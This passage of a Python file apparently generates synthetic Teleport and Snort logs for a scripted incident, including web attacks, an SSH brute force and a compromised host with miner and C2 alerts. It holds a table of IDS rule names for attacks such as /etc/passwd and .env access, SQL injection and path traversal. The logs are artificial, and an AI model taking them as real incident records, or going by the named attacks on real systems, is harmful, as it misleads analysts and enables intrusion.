                    "tls: first record does not look like a TLS handshake",
                    "EOF",
                    "tls: client offered only unsupported versions: [302 301]",
                    "tls: no cipher suite supported by both client and server",
                ],
                weights=[5, 3, 2, 1],
            )[0]
            T(
                "a",
                x,
                "WARN",
                "ALPN:PROXY",
                "Failed to handle client connection.",
                fields=f"error:[{err}] client_addr:{r.choice([45, 64, 89, 162, 167, 193])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}:{r.randrange(1024, 65535)}",
                caller="alpnproxy/proxy.go:336",
            )
    # the upgrade
    T(
        "a",
        down0,
        "INFO",
        "PROC:1",
        "Got signal %q, exiting immediately.",
        "terminated",
        msg='Got signal "terminated", exiting immediately.',
        caller="service/signals.go:86",
    )
    boot(down1)
    x = down0 + secs(r, 1, 3)
    T(
        "n",
        x,
        "WARN",
        "PROXY:AGENT",
        "Failed to create remote tunnel: EOF, conn: %v.",
        "<nil>",
        caller="reversetunnel/agent.go:371",
    )
    x += secs(r, 1, 3)
    while x < down1 + timedelta(seconds=8):
        kind = r.choice(["cache", "rotation", "beat", "tunnel"])
        dial = 'connection error: desc = "transport: Error while dialing: failed to dial: dial tcp 10.20.0.5:3080: connect: connection refused"'
        if kind == "cache":
            T(
                "n",
                x,
                "WARN",
                "NODE:1:CA",
                "Re-init the cache on error.",
                fields=f"error:[{dial}]",
                caller="cache/cache.go:1020",
            )
        elif kind == "rotation":
            T(
                "n",
                x,
                "WARN",
                "PROC:1",
                "Sync rotation state cycle failed. Retrying in ~%v",
                "10s",
                caller="service/connect.go:709",
            )
        elif kind == "beat":
            T(
                "n",
                x,
                "WARN",
                "SSH:BEAT",
                'Heartbeat failed rpc error: code = Unavailable desc = connection error: desc = "transport: Error while dialing: failed to dial: dial tcp %s: connect: connection refused".',
                "10.20.0.5:3080",
                caller="srv/heartbeatv2.go:541",
            )
        else:
            T(
                "n",
                x,
                "WARN",
                "PROXY:AGENT",
                "Failed to create remote tunnel: failed to dial: dial tcp %s: connect: connection refused, conn: %v.",
                "10.20.0.5:3024",
                "<nil>",
                caller="reversetunnel/agent.go:371",
            )
        x += secs(r, 2, 9)
    sid = uuid4(r)
    T(
        "n",
        down0 + secs(r, 40, 70),
        "ERRO",
        "UPLOAD:1",
        "Failed to upload session %v.",
        msg=(
            f'Failed to upload session {sid}. error:[\nERROR REPORT:\nOriginal Error: *trace.ConnectionProblemError connection error: desc = "transport: Error while dialing: failed to dial: dial tcp 10.20.0.5:3080: connect: connection refused"\n'
            "Stack Trace:\n"
            "\tgithub.com/gravitational/teleport/api/client/client.go:1049 github.com/gravitational/teleport/api/client.(*Client).CreateAuditStream\n"
            "\tgithub.com/gravitational/teleport/lib/events/filesessions/fileasync.go:462 github.com/gravitational/teleport/lib/events/filesessions.(*Uploader).upload\n"
            "\tgithub.com/gravitational/teleport/lib/events/filesessions/fileasync.go:414 github.com/gravitational/teleport/lib/events/filesessions.(*Uploader).startUpload.func1\n"
            "\truntime/asm_amd64.s:1695 runtime.goexit\n"
            'User Message: connection error: desc = "transport: Error while dialing: failed to dial: dial tcp 10.20.0.5:3080: connect: connection refused"]'
        ),
        caller="filesessions/fileasync.go:304",
    )
    x = down1 + secs(r, 8, 15)
    T(
        "n",
        x,
        "INFO",
        "PROXY:AGENT",
        "Connected.",
        fields=f"addr:10.20.0.5:3024 leaseID:{r.randrange(2, 9)} remote-addr:10.20.0.5:3024 target:{TP_CLUSTER}:443",
        caller="reversetunnel/agent.go:514",
    )
    T(
        "n",
        x + secs(r, 1, 4),
        "INFO",
        "NODE:1:CA",
        "Cache %q first init succeeded.",
        "node",
        caller="cache/cache.go:1011",
    )
    return o.logs(t0, {"a": "teleport.log", "n": "node-db-01.log"})


# --------------------------------------------------------------------------------- snort

SN_CLASS = {
    "bad": ("Potentially Bad Traffic", 2),
    "leak": ("Attempted Information Leak", 2),
    "misc": ("Misc activity", 3),
    "attack": ("Misc Attack", 2),
    "web": ("Web Application Attack", 1),
    "cnc": ("Malware Command and Control Activity Detected", 1),
    "trojan": ("A Network Trojan was detected", 1),
    "priv": ("Attempted Administrator Privilege Gain", 1),
    "unknown": ("Unknown Traffic", 3),
}
# gid:sid:rev, message, class (None: a builtin rule, no classification), protocol
SN_RULES = {
    "ping_nix": ("1:2100366:8", "GPL ICMP_INFO PING *NIX", "misc", "ICMP"),
    "ping": ("1:2100384:5", "GPL ICMP_INFO PING", "misc", "ICMP"),
    "dshield": ("1:2402000:6856", "ET DROP Dshield Block Listed Source", "attack", "TCP"),
    "spamhaus": (
        "1:2400001:3867",
        "ET DROP Spamhaus DROP Listed Traffic Inbound group 2",
        "attack",
        "TCP",
    ),
    "mssql": ("1:2010935:3", "ET SCAN Suspicious inbound to MSSQL port 1433", "bad", "TCP"),
    "mysql": ("1:2010937:3", "ET SCAN Suspicious inbound to mySQL port 3306", "bad", "TCP"),
    "pgsql": ("1:2010939:3", "ET SCAN Suspicious inbound to PostgreSQL port 5432", "bad", "TCP"),
    "vnc": ("1:2002910:6", "ET SCAN Potential VNC Scan 5800-5820", "leak", "TCP"),
    "ssh_scan": ("1:2001219:20", "ET SCAN Potential SSH Scan", "leak", "TCP"),
    "sip": ("1:2008578:6", "ET SCAN Sipvicious Scan", "leak", "UDP"),
    "sip_ua": (
        "1:2011716:4",
        "ET SCAN Sipvicious User-Agent Detected (friendly-scanner)",
        "leak",
        "UDP",
    ),
    "nmap_ua": ("1:2024364:5", "ET SCAN Possible Nmap User-Agent Observed", "web", "TCP"),
    "passwd": ("1:1122:24", "SERVER-WEBAPP /etc/passwd file access attempt", "leak", "TCP"),
    "traversal": (
        "1:2031502:3",
        "ET EXPLOIT Possible Apache Path Traversal (CVE-2021-41773)",
        "web",
        "TCP",
    ),
    "wpconfig": (
        "1:2012887:4",
        "ET WEB_SERVER WordPress wp-config.php Access Attempt",
        "web",
        "TCP",
    ),
    "union": (
        "1:2006446:14",
        "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
        "web",
        "TCP",
    ),
    "env": ("1:2034128:2", "ET INFO Request for .env File Observed", "leak", "TCP"),
    "forbidden": ("1:1201:23", "INDICATOR-COMPROMISE 403 Forbidden", "leak", "TCP"),
    "curl_out": ("1:2013028:7", "ET POLICY curl User-Agent Outbound", "leak", "TCP"),
    "cnc": ("1:2404302:7352", "ET CNC Feodo Tracker Reported CnC Server group 3", "cnc", "TCP"),
    "miner": ("1:2024792:4", "ET POLICY Cryptocurrency Miner Checkin", "trojan", "TCP"),
    "idroot": ("1:2100498:7", "GPL ATTACK_RESPONSE id check returned root", "bad", "TCP"),
    "reset": ("129:15:1", "(stream_tcp) reset outside window", None, "TCP"),
    "bcast": ("116:414:1", "(ipv4) IPv4 packet to broadcast dest address", None, "UDP"),
    "slashes": (
        "119:31:1",
        "(http_inspect) URI path contains consecutive slash characters",
        None,
        "TCP",
    ),
    "portscan": ("122:1:1", "(port_scan) TCP portscan", None, "PROTO:255"),
    "udpscan": ("122:17:1", "(port_scan) UDP portscan", None, "PROTO:255"),
}
SN_WEB = "10.0.0.5"
SN_PUBLIC = "198.51.100.10"
SN_MODULES = {
    "daq": ["received", "analyzed", "allow", "whitelist", "rx_bytes"],
    "codec": ["total", "discards", "arp", "eth", "icmp4", "ipv4", "tcp", "udp", "vlan"],
    "detection": [
        "analyzed",
        "hard_evals",
        "raw_searches",
        "cooked_searches",
        "pkt_searches",
        "alt_searches",
        "pdu_searches",
        "alerts",
        "total_alerts",
        "logged",
    ],
    "http_inspect": [
        "flows",
        "scans",
        "reassembles",
        "inspections",
        "requests",
        "responses",
        "get_requests",
        "post_requests",
    ],
    "port_scan": ["packets", "trackers", "alloc_prunes"],
    "ssl": [
        "packets",
        "decoded",
        "client_hello",
        "server_hello",
        "certificate",
        "server_done",
        "client_key_exchange",
    ],
    "stream": ["flows", "total_prunes", "idle_prunes", "excess_prunes"],
    "stream_tcp": [
        "sessions",
        "max",
        "created",
        "released",
        "instantiated",
        "setups",
        "restarts",
        "discards",
        "syn_trackers",
        "data_trackers",
    ],
    "stream_udp": ["sessions", "max", "created", "released", "timeouts", "total_bytes"],
}
SN_DASHES = "-" * 50


def rip(r: random.Random) -> str:
    return f"{r.choice([5, 23, 45, 61, 80, 89, 92, 103, 118, 141, 162, 176, 185, 193, 194, 212, 222])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"


def snort(r: random.Random) -> list[Log]:
    """Snort 3.1.82 in IDS mode on a small hosting edge (the public web server's traffic,
    mirrored on eth1), 06:00 to 10:00. The internet's background all day (pings, block-listed
    sources, scans of database and VNC ports, SIP scanners, port scans, TCP resets
    outside the window, broadcasts), web attacks on the shop (traversal, wp-config, .env,
    UNION SELECT, 403s back), an SSH brute force 07:12-07:31, and an internal host (10.0.0.23)
    compromised at 08:40: curl outbound, a miner checking in, C2 traffic, `id check returned
    root` in a response. snort.log has the start-up, a SIGUSR1 statistics dump every 30 minutes
    and the restart at 08:55 after pulledpork's rules update."""

    def head(t: datetime, lvl: str, ctx: str) -> str:
        return f"{t:%m/%d-%H:%M:%S}.{t.microsecond:06d} " if lvl == "alert" else ""

    o = Out(1, ["a", "s"], head)
    t0, t_end = at(6, 0, 4), at(10, 0, 0)
    rs0, rs1 = at(8, 55, 2), at(8, 55, 40)
    pwn = at(8, 40, 14)
    counts = {"alerts": 0}

    def alert(
        t: datetime, key: str, src: str, dst: str, sp: int | None = None, dp: int | None = None
    ) -> datetime:
        if rs0 <= t < rs1:
            return t
        gsr, msg, cls, proto = SN_RULES[key]
        if cls:
            c, prio = SN_CLASS[cls]
            mid = f" [Classification: {c}] [Priority: {prio}]"
        else:
            mid = " [Priority: 3]"
        a = f"{src} -> {dst}" if sp is None else f"{src}:{sp} -> {dst}:{dp}"
        text = f'[**] [{gsr}] "{msg}" [**]{mid} {{{proto}}} {a}'
        fmt = f'[**] [{gsr}] "{msg}" [**]{mid} {{%s}} %s -> %s'
        counts["alerts"] += 1
        return o.e("a", t, fmt, lvl="alert", msg=text)

    def S(t: datetime, fmt: str, *args: object, msg: str | None = None, cont=()) -> datetime:
        return o.e("s", t, fmt, *args, lvl="", msg=msg, cont=cont)

    def dashes(t: datetime) -> datetime:
        return S(t, SN_DASHES, msg=SN_DASHES)

    def table(t: datetime, title: str, rows: list[str]) -> datetime:
        t = dashes(t)
        return S(t, title, msg=title, cont=rows)

    def startup(t: datetime, dup: bool) -> datetime:
        t = dashes(t)
        t = S(t, 'o")~   Snort++ %s', "3.1.82.0")
        t = dashes(t)
        for f in ["/usr/local/etc/snort/snort.lua", "snort_defaults.lua", "file_magic.rules"]:
            t = S(t, "Loading %s:", f)
            if f != "/usr/local/etc/snort/snort.lua":
                t = S(t, "Finished %s:", f)
        t = S(t, "Finished %s:", "/usr/local/etc/snort/snort.lua")
        t = S(t, "Loading rule args:")
        for f in ["/usr/local/etc/rules/pulledpork.rules", "/usr/local/etc/rules/local.rules"]:
            t = S(t, "Loading %s:", f)
            if dup and "local" in f:
                t = S(
                    t,
                    "WARNING: %s:%d GID %d SID %d in IPS policy %d duplicates previous rule",
                    f,
                    7,
                    1,
                    1000004,
                    0,
                )
            t = S(t, "Finished %s:", f)
        t = S(t, "Finished rule args:")
        total = 43882 if dup else 43517
        t = table(
            t,
            "ips policies rule stats",
            [
                "              id  loaded  shared enabled    file",
                f"               0   {total}       0   {total - 33120}    /usr/local/etc/snort/snort.lua",
            ],
        )
        t = table(
            t,
            "rule counts",
            [
                f"       total rules loaded: {total}",
                f"               text rules: {total}",
                f"            option chains: {total}",
                "            chain headers: 1382",
                "                 flowbits: 48",
                "     flowbits not checked: 21",
            ],
        )
        t = table(
            t,
            "port rule counts",
            [
                "             tcp     udp    icmp      ip",
                "     any     681     130      53      41",
                "     src     312      28       0       0",
                "     dst    2196     302       0       0",
                "    both      10      14       0       0",
                "   total    3199     474      53      41",
            ],
        )
        t = table(
            t,
            "service rule counts          to-srv  to-cli",
            [
                "                     dns:      409      82",
                "                    http:     6180    1493",
                "                   http2:     6180    1493",
                "                     ssh:       61       8",
                "                     ssl:      411      97",
                "                   total:    13241    3173",
            ],
        )
        t = table(
            t,
            "fast pattern groups",
            [
                "                      src: 143",
                "                      dst: 411",
                "                      any: 12",
                "                to_server: 96",
                "                to_client: 61",
            ],
        )
        t = table(
            t,
            "search engine (hyperscan)",
            [
                "                instances: 658",
                "                 patterns: 21466",
                "            pattern chars: 343158",
                "               num states: 0",
                "         num match states: 0",
                "             memory scale: MB",
                "             total memory: 0",
            ],
        )
        t = dashes(t)
        t = S(t + secs(r, 2, 5), "pcap DAQ configured to %s.", "passive")
        t = S(t, "Commencing packet processing")
        return S(t, "++ [%d] %s", 0, "eth1")

    def stats(t: datetime, final: bool, span: float) -> datetime:
        pk = int(span * r.uniform(900, 1300))

        def rows(mod: str) -> list[str]:
            out = []
            for name in SN_MODULES[mod]:
                v = r.randrange(1, max(2, pk))
                out.append(f"{name:>28}: {v}")
            return out

        t = table(t, "Packet Statistics", [])
        for mod in ["daq", "codec"]:
            t = table(t, mod, rows(mod))
        t = table(t, "Module Statistics", [])
        for mod in SN_MODULES:
            if mod not in ("daq", "codec"):
                t = table(t, mod, rows(mod))
        if final:
            t = table(t, "Summary Statistics", [])
            t = table(t, "process", ["                     signals: 1"])
            sec = int(span)
            t = table(
                t,
                "timing",
                [
                    f"                     runtime: {sec // 3600:02d}:{sec % 3600 // 60:02d}:{sec % 60:02d}",
                    f"                     seconds: {span:.6f}",
                    f"                     packets: {pk}",
                    f"                    pkts/sec: {pk // max(1, sec)}",
                ],
            )
        return dashes(t)

    # snort.log
    x = startup(t0 - timedelta(seconds=3), False)
    last = x
    d = at(6, 30, 0)
    while d < t_end:
        if not (rs0 - timedelta(minutes=2) <= d < rs1 + timedelta(minutes=2)):
            stats(d + secs(r, 0, 1), False, (d - last).total_seconds())
        d += timedelta(minutes=30)
    x = S(rs0, "-- [%d] %s", 0, "eth1")
    x = stats(x + secs(r, 0.1, 0.3), True, (rs0 - t0).total_seconds())
    x = S(x, 'o")~   Snort exiting')
    startup(x + secs(r, 3, 6), True)

    # the background
    bg = [
        ("ping_nix", 80, "icmp"),
        ("ping", 90, "icmp"),
        ("dshield", 40, "tcp"),
        ("spamhaus", 45, "tcp"),
        ("mssql", 110, "tcp1433"),
        ("mysql", 150, "tcp3306"),
        ("pgsql", 260, "tcp5432"),
        ("vnc", 420, "tcp5900"),
        ("sip", 360, "udp5060"),
        ("reset", 60, "tcp443"),
        ("bcast", 600, "bcast"),
        ("slashes", 480, "tcp80"),
    ]
    for key, mean, kind in bg:
        for x in poisson(r, t0, t_end, mean):
            src = rip(r)
            if kind == "icmp":
                alert(x, key, src, SN_PUBLIC)
            elif kind.startswith("tcp"):
                dp = int(kind[3:]) if kind[3:] else r.choice([22, 23, 25, 80, 443, 445, 8080, 8443])
                alert(x, key, src, SN_PUBLIC, r.randrange(1024, 65535), dp)
            elif kind == "udp5060":
                for _ in range(r.randrange(1, 3)):
                    x = alert(
                        x + secs(r, 0, 0.5), key, src, SN_PUBLIC, 5060 + r.randrange(0, 3), 5060
                    )
                if r.random() < 0.6:
                    alert(x + secs(r, 0, 0.5), "sip_ua", src, SN_PUBLIC, 5060, 5060)
            else:
                alert(x, key, "10.0.0.1", "10.0.0.255", 138, 138)
    for x in poisson(r, t0, t_end, 400):
        src = rip(r)
        alert(x, r.choice(["portscan", "portscan", "udpscan"]), src, SN_PUBLIC)
    # web attacks on the shop
    for x in poisson(r, t0, t_end, 95):
        src = rip(r)
        key = r.choices(
            ["passwd", "traversal", "wpconfig", "union", "env", "nmap_ua"],
            weights=[3, 3, 5, 2, 6, 2],
        )[0]
        sp = r.randrange(1024, 65535)
        x = alert(x, key, src, SN_WEB, sp, 80)
        if r.random() < 0.7:
            alert(x + secs(r, 0.001, 0.05), "forbidden", SN_WEB, src, 80, sp)
    # the SSH brute force
    src = "193.32.162.71"
    for x in poisson(r, at(7, 12, 3), at(7, 31, 50), 4):
        alert(x, "ssh_scan", src, SN_PUBLIC, r.randrange(30000, 65000), 22)
    # the compromised host
    inner = "10.0.0.23"
    x = alert(pwn, "idroot", SN_WEB, "45.9.148.7", 80, 51234)
    for _ in range(4):
        x = alert(
            x + secs(r, 1, 20),
            "curl_out",
            inner,
            r.choice(["45.9.148.7", "194.38.20.199"]),
            r.randrange(40000, 60000),
            80,
        )
    for x in poisson(r, pwn + timedelta(minutes=1), t_end, 75):
        alert(
            x,
            r.choice(["cnc", "miner", "miner"]),
            inner,
            r.choice(["194.38.20.199", "185.191.32.198"]),
            r.randrange(40000, 60000),
            r.choice([443, 3333]),
        )
    return o.logs(t0 - timedelta(seconds=5), {"a": "alert_fast.txt", "s": "snort.log"})


SYSTEMS = {
    "falco": falco,
    "osquery": osquery,
    "crowdsec": crowdsec,
    "teleport": teleport,
    "snort": snort,
}

if __name__ == "__main__":
    raise SystemExit(generate(SYSTEMS, sys.argv[1:]))
